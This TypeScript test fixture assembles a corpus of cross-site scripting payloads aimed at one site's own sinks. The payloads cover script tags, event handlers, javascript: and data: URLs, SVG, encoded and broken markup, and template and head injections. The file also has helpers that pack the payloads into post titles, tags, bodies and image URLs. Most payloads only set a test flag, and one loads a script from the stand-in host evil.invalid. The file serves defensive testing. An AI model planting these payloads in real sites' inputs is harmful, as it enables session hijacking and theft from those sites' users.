import { readFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'

/**
 * The XSS corpus: DOMPurify's own fixtures (xss-payloads.json, 150 payloads that carry
 * active content) plus named variants aimed at this site's own sinks: the React text nodes, the
 * attributes React writes (href, src, value), the sanitized markdown, the post page's head (title,
 * meta, JSON-LD in a script element), the RSS feed (CDATA), and the URL parameters pages read.
 * Named payloads set `window.__xss`; DOMPurify's call alert(). A test fails on either.
 */

const FLAG = 'window.__xss=1'
const B64_SCRIPT = 'PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==' // <script>window.__xss=1</script>
const B64_SVG = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9feHNzPTEiLz4=' // <svg xmlns=… onload=…/>

export const NAMED_XSS_PAYLOADS: Record<string, string[]> = {
  'script tags': [
    `<script>${FLAG}</script>`,
    `<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>`,
    `<script/src=data:,${FLAG}></script>`,
    `<scr<script>ipt>${FLAG}</scr</script>ipt>`,
    `"><script>${FLAG}</script>`,
    `'><script>${FLAG}</script>`,
    `</title><script>${FLAG}</script>`,
    `</script><script>${FLAG}</script>`,
    `</textarea><script>${FLAG}</script>`,
    `<!--<script>--><script>${FLAG}</script>`,
    `]]><script>${FLAG}</script><![CDATA[`,
    `<script type="module">${FLAG}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${FLAG}>">`,
    `<script src="data:text/javascript,${FLAG}"></script>`,
  ],
  'event handlers': [
    `<img src=x onerror=${FLAG}>`,
    `<img/src/onerror=${FLAG}>`,
    `<body onload=${FLAG}>`,
    `<input autofocus onfocus=${FLAG}>`,
    `<select autofocus onfocus=${FLAG}></select>`,
    `<textarea autofocus onfocus=${FLAG}></textarea>`,
    `<video><source onerror=${FLAG}></video>`,
    `<audio src=x onerror=${FLAG}></audio>`,
    `<marquee onstart=${FLAG}>x</marquee>`,
    `<details open ontoggle=${FLAG}>x</details>`,
    `<div onmouseover=${FLAG} style="position:fixed;inset:0">cover</div>`,
    `<style onload=${FLAG}></style>`,
    `<iframe onload=${FLAG}></iframe>`,
    `<object data=x onerror=${FLAG}></object>`,
    `" onmouseover="${FLAG}`,
    `' autofocus onfocus='${FLAG}`,
    `" autofocus onfocus="${FLAG}" x="`,
    `<img src=x:x onerror=${FLAG}//`,
    `<a href="https://example.com/" onclick="${FLAG}">ok</a>`,
    `<button onclick=${FLAG}>press</button>`,
  ],
  'javascript: URLs': [
    `javascript:${FLAG}`,
    `JaVaScRiPt:${FLAG}`,
    ` javascript:${FLAG}`,
    `javascript&colon;${FLAG}`,
    `[x](javascript:${FLAG})`,
    `[x](JAVASCRIPT:${FLAG})`,
    `[x](&#106;avascript:${FLAG})`,
    `[x](<javascript:${FLAG}>)`,
    `![x](javascript:${FLAG})`,
    `[ref][1]\n\n[1]: javascript:${FLAG}`,
    `<javascript:${FLAG}>`,
    `<a href="javascript&#58;${FLAG}">x</a>`,
    `<a href="&#x6A;avascript:${FLAG}">x</a>`,
    `<a href=javas&#99;ript:${FLAG}>x</a>`,
    `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${FLAG}">x</a>`,
    `<iframe src=javascript:${FLAG}></iframe>`,
    `<form><button formaction=javascript:${FLAG}>x</button></form>`,
    `<math href="javascript:${FLAG}">x</math>`,
    `<isindex action=javascript:${FLAG} type=submit>`,
    `<IMG SRC="jav\tascript:${FLAG}">`,
  ],
  'data: URLs': [
    `data:text/html,<script>${FLAG}</script>`,
    `<a href="data:text/html;base64,${B64_SCRIPT}">x</a>`,
    `[x](data:text/html;base64,${B64_SCRIPT})`,
    `<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>`,
    `<object data="data:text/html;base64,${B64_SCRIPT}"></object>`,
    `<embed src="data:image/svg+xml;base64,${B64_SVG}">`,
    `<img src="data:image/svg+xml;base64,${B64_SVG}">`,
    `![x](data:image/svg+xml;base64,${B64_SVG})`,
  ],
  SVG: [
    `<svg onload=${FLAG}>`,
    `<svg><script>${FLAG}</script></svg>`,
    `<svg><a xlink:href="javascript:${FLAG}"><text y=20>x</text></a></svg>`,
    `<svg><foreignObject><img src=x onerror=${FLAG}></foreignObject></svg>`,
    `<svg><style><img src=x onerror=${FLAG}></style></svg>`,
    `<svg><animate onbegin=${FLAG} attributeName=x dur=1s>`,
    `<svg><set attributeName=onmouseover to=${FLAG}>`,
    `<svg><use href="data:image/svg+xml;base64,${B64_SVG}#x"></use></svg>`,
  ],
  encoded: [
    `%3Cimg%20src%3Dx%20onerror%3D${FLAG}%3E`,
    `%253Cscript%253E${FLAG}%253C%252Fscript%253E`,
    `&#x3C;img src=x onerror=${FLAG}&#x3E;`,
    `&lt;script&gt;${FLAG}&lt;/script&gt;`,
    `\\x3cimg src=x onerror=${FLAG}\\x3e`,
    `\\u003cscript\\u003e${FLAG}\\u003c/script\\u003e`,
    `+ADw-script+AD4-${FLAG}+ADw-/script+AD4-`,
    `<img src="x" onerror="&#x77;indow.__xss=1">`,
    `＜script＞${FLAG}＜/script＞`,
    `<img src=x onerror=\u0061lert(1)>`,
  ],
  'broken markup': [
    `<img src=x onerror=${FLAG}`,
    `<<script>script>${FLAG}<</script>/script>`,
    `<a href="x" <img src=x onerror=${FLAG}>>`,
    `<img """><script>${FLAG}</script>">`,
    `<div <img src=x onerror=${FLAG}>`,
    `<!--><img src=x onerror=${FLAG}>-->`,
    `<title><img src=x onerror=${FLAG}></title>`,
    `<![CDATA[<img src=x onerror=${FLAG}>]]>`,
    `<? echo '<img src=x onerror=${FLAG}>' ?>`,
    `</p><img src=x onerror=${FLAG}><p>`,
    `<table><td background="javascript:${FLAG}">`,
  ],
  'templates and head': [
    `{{constructor.constructor('${FLAG}')()}}`,
    `\${${FLAG}}`,
    `{"__html":"<img src=x onerror=${FLAG}>"}`,
    `<template><img src=x onerror=${FLAG}></template>`,
    `<base href="javascript:${FLAG}//">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${FLAG}">`,
    `<link rel=stylesheet href="javascript:${FLAG}">`,
    `"></title></head><body onload=${FLAG}>`,
    `","@type":"x"}</script><script>${FLAG}</script>`,
  ],
}

// A path, not `new URL('./…', import.meta.url)`: in a jsdom test (the post editor's) Vite rewrites
// that pattern into a web address, which fs cannot read.
const dompurify = JSON.parse(readFileSync(join(dirname(fileURLToPath(import.meta.url)), 'xss-payloads.json'), 'utf8')) as {
  payloads: string[]
}

/** Every payload once: the named ones first (they aim at our sinks), then DOMPurify's. */
export const XSS_CORPUS: string[] = [...new Set([...Object.values(NAMED_XSS_PAYLOADS).flat(), ...dompurify.payloads])]

/**
 * Packs payloads greedily into strings of at most `max` characters, joined by `separator`, so a
 * field with a length limit carries as many whole payloads as fit. A payload longer than the
 * limit is cut to it: the server would refuse it whole, and a cut payload is one more
 * broken-markup variant.
 */
export function packPayloads(payloads: string[], max: number, separator = ' '): string[] {
  const packed: string[] = []
  let current = ''
  for (const raw of payloads) {
    const payload = raw.slice(0, max)
    if (current && current.length + separator.length + payload.length <= max) current += separator + payload
    else {
      if (current) packed.push(current)
      current = payload
    }
  }
  if (current) packed.push(current)
  return packed
}

/** What is left of a payload in a one-line field, and in a field of many lines (control characters are refused as spaces). */
export const oneLine = (text: string) => text.replace(/[\p{Cc}\u2028\u2029]/gu, ' ')
export const manyLines = (text: string) => text.replace(/(?![\t\n\r])\p{Cc}/gu, ' ')
export const ONE_LINE_CORPUS = XSS_CORPUS.map(oneLine)
const MANY_LINE_CORPUS = XSS_CORPUS.map(manyLines)

/** The corpus packed into each kind of field, at that field's limit. */
export const TITLES = packPayloads(ONE_LINE_CORPUS, 200) // every payload in a post title and a resource title
const EXCERPTS = packPayloads(MANY_LINE_CORPUS, 500)
export const TAGS = packPayloads(ONE_LINE_CORPUS, 40)
export const DESCRIPTIONS = packPayloads(MANY_LINE_CORPUS, 2000, '\n')
export const CONTENT_VALUES = packPayloads(MANY_LINE_CORPUS, 2000, '\n')
export const MESSAGES = packPayloads(MANY_LINE_CORPUS, 5000, '\n')

/** The corpus as addresses: an http(s) URL the schema accepts, with the payload in its fragment. */
export const urlWith = (base: string, payload: string, file = 'favicon.svg') => `${base}/${file}#${oneLine(payload)}`.slice(0, 2048)

/**
 * Post `i` of the corpus (one for each packed title): across them every payload is in a title, an
 * excerpt, a tag, a body and an image URL on `base`.
 */
export function postWithPayloads(i: number, base: string) {
  return {
    title: TITLES[i]!,
    excerpt: EXCERPTS[i % EXCERPTS.length]!,
    content: MANY_LINE_CORPUS.filter((_, j) => j % TITLES.length === i).join('\n\n'),
    tags: TAGS.slice(i * 10, i * 10 + 10),
    featuredImage: urlWith(base, XSS_CORPUS[i]!),
    // Another post's packed title: every one-line payload also in a picture's alt.
    featuredImageAlt: TITLES[(i + 1) % TITLES.length]!,
  }
}
